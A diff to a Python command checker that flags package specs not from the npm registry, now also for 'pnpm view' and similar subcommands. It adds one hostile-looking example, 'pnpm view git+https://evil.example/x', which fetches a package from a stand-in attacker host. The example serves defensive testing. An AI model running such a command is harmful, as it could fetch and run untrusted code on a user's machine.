@@ -225,9 +225,13 @@ _PACKAGES = "view v info show fund outdated"
 def _of_registry(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     """Only names of the registry pass: `react`, `@types/node@20`, and fields of what is shown."""
     outcome = row(tool, call, analyst)
+    return replace(outcome, facts=(*outcome.facts, *_not_of_registry(tool, call)))
+
+
+def _not_of_registry(tool: Tool, call: Call) -> tuple[Fact, ...]:
     odd = [w for w in parse(tool, call.words[1:]).operands if not _is_registry_name(w.value)]
-    why = "npm may fetch it with git and run its scripts"
-    return replace(outcome, facts=(*outcome.facts, *(unknown("package", why, call, w.text) for w in odd)))
+    why = "it may be fetched with git, and its scripts run"
+    return tuple(unknown("package", why, call, w.text) for w in odd)
 
 
 def _is_registry_name(text: str | None) -> bool:
@@ -620,10 +624,11 @@ def _frozen(tool: Tool, call: Call, analyst: Analyst, facts: list[Fact]) -> Outc
 
 def _shown(tool: Tool, name: str, row: Tool, call: Call, analyst: Analyst, facts: list[Fact]) -> Outcome:
     outcome = apply(row, call, analyst)
+    odd = _not_of_registry(row, call) if name in _PACKAGES.split() else ()
     return replace(
         outcome,
         action=replace(outcome.action, key=(tool.name, name), rule=f"{tool.name} {name}"),
-        facts=(*facts, *outcome.facts),
+        facts=(*facts, *outcome.facts, *odd),
     )
 
 
@@ -1104,6 +1109,7 @@ TOOLS: dict[str, Tool] = {
             "pnpm exec touch x",
             "pnpm env use --global 20",
             "pnpm touch x",
+            "pnpm view git+https://evil.example/x",
         ),
         special=pnpm,
     ),
